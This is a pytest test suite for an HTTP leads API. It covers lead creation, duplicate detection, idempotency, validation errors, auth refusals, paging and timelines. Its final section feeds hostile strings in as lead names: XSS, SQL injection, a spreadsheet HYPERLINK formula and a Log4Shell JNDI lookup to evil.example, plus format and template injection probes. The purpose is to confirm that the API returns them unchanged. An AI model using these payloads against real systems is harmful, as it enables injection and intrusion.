"""Leads over HTTP: what a create answers, what happens with known persons, and how leads are read and listed."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from chalicelib.services import keys
from tests import wire
from tests.api.client import Client
from tests.api.client import Reply as Answered
from tests.desk import Desk
from tests.wire import Call, Reply

READ_ONLY_KEY = "lk_test_key_that_only_reads"
OTHER_KEY = "lk_test_key_of_another_system"
AENNE = {"name": "Änne Öztürk", "phone": "0176 04069012", "email": "Aenne@Example.de"}
TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")


@pytest.fixture
def other(desk: Desk) -> Client:
    """Another system with a key of its own and the same rights."""
    keys.store(OTHER_KEY, name="Messe-App", scopes=["leads:read", "leads:write"], at=desk.world.clock.now())
    return Client(desk.app, key=OTHER_KEY)


def test_a_create_answers_201_with_the_whole_lead(desk: Desk) -> None:
    reply = desk.create(
        given_name="Änne",
        family_name="Öztürk",
        phones=[{"raw": "0176 04069012"}, "+49 30 1234567"],
        email="Aenne@Example.de",
        title="Photovoltaik Einfamilienhaus",
        company="Öztürk & Söhne GmbH",
        amount={"amount": "1234.50", "currency": "EUR"},
        address={"street": "Große Straße 1", "postal_code": "10115", "city": "Berlin"},
        tags=["messe-2026"],
        utm={"source": "newsletter"},
        comment="Bitte vormittags anrufen",
    )

    lead = reply.json
    assert reply.status == 201
    assert reply.headers["Location"] == f"/v1/leads/{lead['id']}"
    assert reply.headers["ETag"] == '"1"'
    assert re.fullmatch(r"lead_[0-9A-HJKMNP-TV-Z]{11}", lead["id"])
    assert re.fullmatch(r"rcp_[0-9A-HJKMNP-TV-Z]{16}", lead.pop("receipt_id"))
    times = {name: lead.pop(name) for name in list(lead) if name.endswith("_at") and lead[name]}
    assert set(times) == {"status_changed_at", "received_at", "created_at", "updated_at", "last_activity_at"}
    assert all(TIME.fullmatch(at) for at in times.values())
    assert lead.pop("created_by").startswith("key_")
    assert lead == {
        "id": lead["id"],
        "version": 1,
        "title": "Photovoltaik Einfamilienhaus",
        "status": "new",
        "kind": "open",
        "lost_reason": None,
        "source": "api",
        "source_detail": None,
        "honorific": None,
        "name": "Änne Öztürk",
        "given_name": "Änne",
        "middle_name": None,
        "family_name": "Öztürk",
        "company": "Öztürk & Söhne GmbH",
        "position": None,
        "birthdate": None,
        "phones": [
            {"id": 1, "e164": "+4917604069012", "raw": "0176 04069012", "type": "mobile", "valid": True},
            {"id": 2, "e164": "+49301234567", "raw": "+49 30 1234567", "type": "landline", "valid": True},
        ],
        "emails": [{"id": 3, "address": "Aenne@Example.de", "type": "work"}],
        "websites": [],
        "messengers": [],
        "address": {"street": "Große Straße 1", "postal_code": "10115", "city": "Berlin"},
        "amount": {"amount": "1234.50", "currency": "EUR"},
        "comment": "Bitte vormittags anrufen",
        "utm": {"source": "newsletter"},
        "click_ids": {},
        "owner_id": None,
        "contact_id": None,
        "company_id": None,
        "repeat": False,
        "duplicate_of": None,
        "merged_into": None,
        "external_ids": {},
        "consent": [],
        "tags": ["messe-2026"],
        "custom": {},
        "closed_at": None,
        "first_response_at": None,
        "outcome": "created",
    }


def test_what_a_create_answers_is_what_a_get_shows(desk: Desk) -> None:
    created = desk.created(**AENNE)

    reply = desk.client.get(f"/v1/leads/{created['id']}")

    assert reply.headers["ETag"] == '"1"'
    assert {**reply.json, "outcome": "created", "receipt_id": created["receipt_id"]} == created


@pytest.mark.parametrize(
    ("values", "title"),
    [
        ({"name": "Jörg Müßig", "email": "joerg@example.org"}, "Jörg Müßig"),
        ({"company": "Käfer GmbH", "phone": "+49 30 1234567"}, "Käfer GmbH"),
        ({"phone": "+49 30 1234567", "email": "joerg@example.org"}, "+49 30 1234567"),
        ({"email": "joerg@example.org"}, "joerg@example.org"),
    ],
)
def test_a_missing_title_is_made_from_the_best_there_is(desk: Desk, values: dict[str, str], title: str) -> None:
    assert desk.created(**values)["title"] == title


def test_a_receipt_comes_with_every_create_and_has_the_body_as_sent(desk: Desk) -> None:
    created = desk.created(name="Jörg Müßig")

    receipt = desk.receipt(created["receipt_id"])

    assert (receipt["outcome"], receipt["lead_id"], receipt["source"]) == ("created", created["id"], "api")
    assert receipt["raw"] == {"text": '{"name": "Jörg Müßig"}'}


# Known persons


@pytest.mark.parametrize("known_by", [{"phone": "+49 176 04069012"}, {"email": "AENNE@example.DE"}])
def test_a_known_person_gives_a_second_lead_that_names_the_first(desk: Desk, known_by: dict[str, str]) -> None:
    first = desk.created(**AENNE)

    reply = desk.create(name="A. Öztürk", **known_by)

    assert (reply.status, reply.json["outcome"]) == (201, "created")
    assert reply.json["duplicate_of"] == first["id"]
    assert reply.headers["Link"] == f'</v1/leads/{first["id"]}>; rel="duplicate"'
    assert len(desk.leads()) == 2


def test_attach_answers_200_with_the_first_lead_and_leaves_an_entry(desk: Desk) -> None:
    first = desk.created(**AENNE)

    reply = desk.create("?on_duplicate=attach", name="Änne Ö.", phone="017604069012", comment="Noch eine Frage")

    assert (reply.status, reply.json["outcome"]) == (200, "attached")
    assert {name: reply.json[name] for name in ("id", "version", "name", "comment")} == {
        "id": first["id"], "version": 1, "name": "Änne Öztürk", "comment": None,
    }  # fmt: skip
    assert len(desk.leads()) == 1
    newest, created = desk.timeline(first["id"])
    assert (newest["type"], newest["source"], created["type"]) == ("form_submission", "api", "created")
    assert newest["data"]["receipt_id"] == reply.json["receipt_id"]
    assert newest["data"]["raw"]["comment"] == "Noch eine Frage"


def test_an_attached_enquiry_brings_its_new_address_to_the_lead(desk: Desk) -> None:
    first = desk.created(name="Änne Öztürk", phone="0176 04069012")

    reply = desk.create("?on_duplicate=attach", phone="0176 04069012", email="aenne@example.de")

    assert (reply.status, reply.json["version"], reply.headers["ETag"]) == (200, 2, '"2"')
    assert reply.json["emails"] == [{"id": 2, "address": "aenne@example.de", "type": "work"}]
    assert desk.lead(first["id"])["emails"] == reply.json["emails"]
    newest = desk.timeline(first["id"])[0]
    assert newest["data"]["changes"]["emails"] == {"before": [], "after": reply.json["emails"]}
    assert desk.create("?on_duplicate=attach", email="aenne@example.de").json["id"] == first["id"]


def test_reject_answers_409_with_the_id_of_the_lead_there_is(desk: Desk) -> None:
    first = desk.created(**AENNE)

    reply = desk.create("?on_duplicate=reject", name="Änne Öztürk", email="aenne@example.de")

    assert (reply.status, reply.json["code"], reply.json["existing_id"]) == (409, "duplicate", first["id"])
    assert len(desk.leads()) == 1
    assert len(desk.receipts()) == 1


JUNK = {"status": "junk", "lost_reason": "spam"}


def test_reject_answers_409_also_for_a_lead_that_would_be_born_closed(desk: Desk) -> None:
    first = desk.created(**AENNE)

    reply = desk.create("?on_duplicate=reject", name="Änne Öztürk", email="aenne@example.de", **JUNK)

    assert (reply.status, reply.json["code"], reply.json["existing_id"]) == (409, "duplicate", first["id"])
    assert len(desk.leads()) == 1


def test_a_lead_born_closed_is_attached_or_named_a_duplicate_as_the_policy_says(desk: Desk) -> None:
    first = desk.created(**AENNE)

    attached = desk.create("?on_duplicate=attach", email="aenne@example.de", **JUNK)
    created = desk.create("?on_duplicate=create", email="aenne@example.de", **JUNK)

    assert (attached.status, attached.json["id"], attached.json["status"]) == (200, first["id"], "new")
    assert (created.status, created.json["duplicate_of"], created.json["status"]) == (201, first["id"], "junk")


def test_a_lead_born_closed_stands_in_nobodys_way(desk: Desk) -> None:
    closed = desk.created(**AENNE, **JUNK)

    reply = desk.create("?on_duplicate=reject", **AENNE)

    assert (reply.status, reply.json["duplicate_of"], closed["duplicate_of"]) == (201, None, None)


def test_who_opens_a_lead_while_a_closed_one_is_being_made_is_seen(desk: Desk) -> None:
    """Between the look at the claims and the transaction the person gets an open lead."""
    opened = []

    def opening(call: Call, go: Callable[[], Reply]) -> Reply:
        if call.operation == "TransactWriteItems" and not opened:
            opened.append("")
            opened[0] = desk.created(**AENNE)["id"]
        return go()

    with wire.standing_at_the_wire(opening):
        reply = desk.create("?on_duplicate=reject", email="aenne@example.de", **JUNK)

    assert (reply.status, reply.json["existing_id"]) == (409, opened[0])
    assert len(desk.leads()) == 1


def test_of_two_persons_known_by_mail_and_by_phone_the_mail_decides(desk: Desk) -> None:
    by_phone = desk.created(name="Zentrale", phone="+49 30 1234567")
    by_mail = desk.created(name="Änne Öztürk", email="aenne@example.de")

    reply = desk.create("?on_duplicate=attach", phone="+49 30 1234567", email="aenne@example.de")

    assert reply.json["id"] == by_mail["id"]
    assert desk.timeline(by_mail["id"])[0]["data"]["other_leads"] == [by_phone["id"]]


# Idempotency


def test_a_repeated_request_gets_the_stored_answer_byte_for_byte(desk: Desk) -> None:
    first = desk.create(key="auftrag-4711", **AENNE)

    again = desk.create(key="auftrag-4711", **AENNE)

    assert (again.status, again.body) == (201, first.body)
    assert "Idempotent-Replayed" not in first.headers
    assert again.headers["Idempotent-Replayed"] == "true"
    assert (again.headers["Location"], again.headers["ETag"]) == (first.headers["Location"], first.headers["ETag"])
    assert len(desk.leads()) == 1
    assert len(desk.receipts()) == 1


@pytest.mark.parametrize(("query", "values"), [("", {"name": "Jörg Müßig"}), ("?on_duplicate=attach", AENNE)])
def test_the_same_key_for_another_request_is_refused(desk: Desk, query: str, values: dict[str, str]) -> None:
    desk.create(key="auftrag-4711", **AENNE)

    reply = desk.create(query, key="auftrag-4711", **values)

    assert (reply.status, reply.json["code"]) == (422, "idempotency_key_reused")
    assert len(desk.leads()) == 1


def test_after_a_422_the_same_key_may_be_used_again(desk: Desk) -> None:
    refused = desk.create(key="auftrag-4711", name="Änne Öztürk", phone="keine")

    reply = desk.create(key="auftrag-4711", **AENNE)

    assert (refused.status, reply.status) == (422, 201)
    assert "Idempotent-Replayed" not in reply.headers


def test_an_answer_is_kept_for_48_hours(desk: Desk) -> None:
    first = desk.create(key="auftrag-4711", name="Änne Öztürk")
    desk.wait(47 * 3600)
    within = desk.create(key="auftrag-4711", name="Änne Öztürk")
    desk.wait(2 * 3600)

    after = desk.create(key="auftrag-4711", name="Änne Öztürk")

    assert within.body == first.body
    assert (after.status, after.json["id"] != first.json["id"]) == (201, True)


def test_two_callers_may_choose_the_same_key(desk: Desk, other: Client) -> None:
    mine = desk.create(key="1", name="Änne Öztürk")

    theirs = other.post("/v1/leads", json={"name": "Jörg Müßig"}, headers={"Idempotency-Key": "1"})

    assert (mine.json["name"], theirs.status, theirs.json["name"]) == ("Änne Öztürk", 201, "Jörg Müßig")


def test_an_attached_answer_is_replayed_too(desk: Desk) -> None:
    desk.created(**AENNE)
    first = desk.create("?on_duplicate=attach", key="k", **AENNE)

    again = desk.create("?on_duplicate=attach", key="k", **AENNE)

    assert (first.status, again.status, again.body) == (200, 200, first.body)
    assert len(desk.timeline(first.json["id"])) == 2


# What is refused


def with_errors(reply: Answered) -> dict[str, str]:
    return {error["field"]: error["code"] for error in reply.json["errors"]}


def test_all_problems_of_a_body_are_told_at_once_as_they_were_sent(desk: Desk) -> None:
    reply = desk.create(
        name="x" * 256, phones=["030 1234567", "keine"], email="nirgends", birthdate="gestern", farbe="grün",
        amount={"amount": "viel", "currency": "EUR"}, source="fax", owner_id="usr_1",
    )  # fmt: skip

    assert (reply.status, reply.json["code"]) == (422, "validation_failed")
    assert reply.headers["Content-Type"] == "application/problem+json"
    assert with_errors(reply) == {
        "name": "too_long",
        "phones[1]": "invalid_phone",
        "email": "invalid_email",
        "birthdate": "invalid_date",
        "farbe": "unknown_field",
        "amount.amount": "invalid_amount",
        "source": "unknown_source",
        "owner_id": "unknown_user",
    }
    assert {error["pointer"] for error in reply.json["errors"]} >= {"/phones/1", "/amount/amount"}
    assert all(len(error["detail"]) > 5 for error in reply.json["errors"])
    assert desk.leads() == []


def test_fields_that_only_leadger_writes_are_refused_by_name(desk: Desk) -> None:
    reply = desk.create(name="Änne Öztürk", id="lead_0J5Q2M8T3XA", version=3, duplicate_of="lead_0J5Q2M8T3XA")

    assert reply.status == 422
    assert with_errors(reply) == {"id": "read_only", "version": "read_only", "duplicate_of": "read_only"}


@pytest.mark.parametrize("body", [{}, {"tags": ["messe-2026"]}, {"name": "  ", "email": None}])
def test_a_body_that_says_nothing_is_refused(desk: Desk, body: dict[str, object]) -> None:
    reply = desk.create(**body)

    assert (reply.status, with_errors(reply)) == (422, {"": "says_nothing"})


def test_short_and_long_form_at_once_are_refused(desk: Desk) -> None:
    reply = desk.create(name="Änne Öztürk", email="a@example.de", emails=["b@example.de"])

    assert reply.status == 422
    assert set(with_errors(reply).values()) == {"conflicting_fields"}


JSON = {"Content-Type": "application/json"}
REFUSALS = {
    "no key": ("POST", "/v1/leads", {**JSON, "Authorization": ""}, b"{}", 401, "unauthenticated"),
    "wrong key": ("GET", "/v1/leads", {"Authorization": "Bearer lk_wrong_key"}, b"", 401, "unauthenticated"),
    "key of another kind": ("GET", "/v1/leads", {"Authorization": "Basic dXNlcjpwdw=="}, b"", 401, "unauthenticated"),
    "scope missing": ("POST", "/v1/leads", {**JSON, "Authorization": f"Bearer {READ_ONLY_KEY}"}, b'{"name": "x"}', 403,
                      "scope_missing"),
    "unknown lead": ("GET", "/v1/leads/lead_0J5Q2M8T3XA", {}, b"", 404, "lead_not_found"),
    "no id": ("GET", "/v1/leads/4711", {}, b"", 404, "lead_not_found"),
    "id of another kind": ("GET", "/v1/leads/tsk_0J5Q2M8T3XA/timeline", {}, b"", 404, "lead_not_found"),
    "method": ("DELETE", "/v1/leads", {}, b"", 405, "method_not_allowed"),
    "broken JSON": ("POST", "/v1/leads", JSON, b'{"name": "\xc3\x84nne"', 400, "broken_json"),
    "no UTF-8": ("POST", "/v1/leads", JSON, b'{"name": "\xc4nne"}', 400, "invalid_utf8"),
    "unknown parameter": ("GET", "/v1/leads?colour=green", {}, b"", 400, "unknown_parameter"),
    "parameter": ("GET", "/v1/leads?limit=0", {}, b"", 400, "invalid_parameter"),
    "policy": ("POST", "/v1/leads?on_duplicate=merge", JSON, b"{}", 400, "invalid_parameter"),
    "idempotency key": ("POST", "/v1/leads", {**JSON, "Idempotency-Key": "x" * 256}, b"{}", 400, "invalid_header"),
    "300 KB": ("POST", "/v1/leads", JSON, b'{"name": "' + b"x" * 300_000 + b'"}', 413, "body_too_large"),
    "media type": ("POST", "/v1/leads", {"Content-Type": "text/csv"}, b"name\nx", 415, "unsupported_media_type"),
    "fields": ("POST", "/v1/leads", JSON, b'{"phone": "?"}', 422, "validation_failed"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSALS)
def test_whatever_is_wrong_is_a_problem_that_changes_nothing(desk: Desk, case: str) -> None:
    method, url, headers, body, status, code = REFUSALS[case]
    keys.store(READ_ONLY_KEY, name="Auswertung", scopes=["leads:read"], at=desk.world.clock.now())
    before = desk.world.items()

    reply = desk.client.request(method, url, headers=headers, body=body, request_id="request-of-mine")

    problem = reply.json
    assert (reply.status, problem["status"], problem["code"]) == (status, status, code)
    assert reply.headers["Content-Type"] == "application/problem+json"
    assert problem["request_id"] == reply.headers["X-Request-Id"] == "request-of-mine"
    assert problem["type"] == f"/docs/problems#{code}"
    assert problem["title"]
    assert problem["detail"]
    assert problem["instance"] == url.partition("?")[0]
    assert ("Allow" in reply.headers) == (status == 405)
    assert ("WWW-Authenticate" in reply.headers) == (status == 401)
    assert desk.world.items() == before


def test_a_wrong_key_and_no_key_at_all_get_no_hint_of_what_is_there(desk: Desk) -> None:
    lead = desk.created(**AENNE)

    known = desk.client.get(f"/v1/leads/{lead['id']}", headers={"Authorization": "Bearer lk_wrong_key"})
    unknown = desk.client.get("/v1/leads/lead_0J5Q2M8T3XA", headers={"Authorization": "Bearer lk_wrong_key"})

    assert (known.status, unknown.status) == (401, 401)
    assert known.json["detail"] == unknown.json["detail"]


# Lists


def pages(client: Client, url: str) -> list[list[str]]:
    found, cursor = [], ""
    while True:
        reply = client.get(f"{url}&cursor={cursor}")
        assert reply.status == 200, reply.text
        found.append([lead["id"] for lead in reply.json["data"]])
        cursor = reply.json["next_cursor"]
        if not cursor:
            return found


def test_60_leads_are_listed_newest_first_in_pages_of_7_each_once(desk: Desk) -> None:
    created = [desk.created(name=f"Kunde {number}")["id"] for number in range(60)]

    found = pages(desk.client, "/v1/leads?limit=7")

    assert [lead for page in found for lead in page] == created[::-1]
    assert [len(page) for page in found if page] == [7] * 8 + [4]


def test_a_lead_that_comes_while_somebody_pages_moves_nothing(desk: Desk) -> None:
    created = [desk.created(name=f"Kunde {number}")["id"] for number in range(4)]
    first = desk.get("/v1/leads?limit=2")

    desk.created(name="Neu dazwischen")
    second = desk.get(f"/v1/leads?limit=2&cursor={first['next_cursor']}")

    assert [lead["id"] for lead in first["data"] + second["data"]] == created[::-1]


def test_the_card_of_a_list_has_what_a_desk_needs(desk: Desk) -> None:
    lead = desk.created(**AENNE, company="Öztürk GmbH", amount={"amount": "99", "currency": "EUR"}, tags=["messe-2026"])

    (card,) = desk.get("/v1/leads")["data"]

    assert card == {
        "id": lead["id"],
        "title": "Änne Öztürk",
        "name": "Änne Öztürk",
        "company": "Öztürk GmbH",
        "status": "new",
        "status_changed_at": lead["status_changed_at"],
        "source": "api",
        "owner_id": None,
        "amount": {"amount": "99.00", "currency": "EUR"},
        "phone": "+4917604069012",
        "email": "Aenne@Example.de",
        "tags": ["messe-2026"],
        "repeat": False,
        "received_at": lead["received_at"],
        "created_at": lead["created_at"],
        "last_activity_at": lead["received_at"],
    }


def test_an_empty_list_says_so(desk: Desk) -> None:
    assert desk.get("/v1/leads") == {"data": [], "next_cursor": None}


def test_a_cursor_that_was_tampered_with_is_refused(desk: Desk) -> None:
    for number in range(3):
        desk.created(name=f"Kunde {number}")
    cursor = desk.get("/v1/leads?limit=1")["next_cursor"]
    middle = len(cursor) // 2
    changed = cursor[:middle] + ("A" if cursor[middle] != "A" else "B") + cursor[middle + 1 :]

    replies = [desk.client.get(f"/v1/leads?limit=1&cursor={wrong}") for wrong in (changed, cursor[:-1], "eyJwayI6")]

    assert [(reply.status, reply.json["code"]) for reply in replies] == [(400, "invalid_cursor")] * 3


def test_a_cursor_of_another_list_or_another_key_is_refused(desk: Desk, other: Client) -> None:
    lead = desk.created(name="Kunde")
    desk.created(name="Kunde")
    cursor = desk.get("/v1/leads?limit=1")["next_cursor"]

    replies = [
        other.get(f"/v1/leads?limit=1&cursor={cursor}"),
        desk.client.get(f"/v1/leads/{lead['id']}/timeline?cursor={cursor}"),
        desk.client.get(f"/v1/imports?cursor={cursor}"),
    ]

    assert [(reply.status, reply.json["code"]) for reply in replies] == [(400, "invalid_cursor")] * 3


# One lead


def test_a_lead_with_its_timeline_has_the_newest_25_entries(desk: Desk) -> None:
    lead = desk.created(**AENNE)
    for number in range(26):
        desk.create("?on_duplicate=attach", phone="0176 04069012", comment=f"Frage {number}")

    page = desk.get(f"/v1/leads/{lead['id']}?include=timeline")

    entries = desk.timeline(lead["id"])
    assert len(entries) == 27
    assert page["timeline"] == entries[:25]
    assert {name: value for name, value in page.items() if name != "timeline"} == desk.lead(lead["id"])


def test_a_new_leads_timeline_is_how_it_came(desk: Desk) -> None:
    lead = desk.created(**AENNE)

    (entry,) = desk.get(f"/v1/leads/{lead['id']}?include=timeline")["timeline"]

    assert entry == {
        "id": f"evt_{lead['id'].removeprefix('lead_')}",
        "type": "created",
        "at": lead["created_at"],
        "by": lead["created_by"],
        "source": "api",
        "data": {"received_at": lead["received_at"], "what": "api", "receipt_id": lead["receipt_id"]},
    }


@pytest.mark.parametrize(("source", "what"), [("manual", "manual"), ("web_form", "api"), (None, "api")])
def test_a_lead_that_somebody_entered_has_submitted_no_form(desk: Desk, source: str | None, what: str) -> None:
    lead = desk.created(**AENNE, source=source)
    desk.post({"name": "Jörg Müller"})

    assert desk.timeline(lead["id"])[-1]["data"]["what"] == what
    assert desk.timeline(desk.leads()[-1]["id"])[-1]["data"]["what"] == "form_submission"


def test_a_timeline_is_paged_to_the_entry_of_the_creation(desk: Desk) -> None:
    lead = desk.created(**AENNE)
    for number in range(5):
        desk.create("?on_duplicate=attach", phone="0176 04069012", comment=f"Frage {number}")

    found = pages(desk.client, f"/v1/leads/{lead['id']}/timeline?limit=2")

    assert [entry for page in found for entry in page] == [entry["id"] for entry in desk.timeline(lead["id"])]
    assert len({entry for page in found for entry in page}) == 6


def test_a_lead_that_is_known_is_not_sent_again(desk: Desk) -> None:
    lead = desk.created(**AENNE)

    known = desk.client.get(f"/v1/leads/{lead['id']}", headers={"If-None-Match": '"1"'})
    changed = desk.client.get(f"/v1/leads/{lead['id']}", headers={"If-None-Match": '"7"'})

    assert (known.status, known.body, changed.status) == (304, b"", 200)


def test_head_is_get_without_a_body(desk: Desk) -> None:
    lead = desk.created(**AENNE)

    reply = desk.client.head(f"/v1/leads/{lead['id']}")

    assert (reply.status, reply.body, reply.headers["ETag"]) == (200, b"", '"1"')


# Hostile content


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "'; DROP TABLE leads; --",
        '=HYPERLINK("http://evil.example")',
        "\u202egnp.exe",
        "👩‍👩‍👧 Łódź 王小明 ‮",
        "${jndi:ldap://evil.example/a}",
        "%s%n{0}{{7*7}}",
    ],
)
def test_whatever_text_a_name_holds_comes_back_as_it_was(desk: Desk, text: str) -> None:
    lead = desk.created(name=text, comment=text)

    assert (lead["name"], lead["comment"]) == (text, text)
    assert desk.get("/v1/leads")["data"][0]["name"] == text
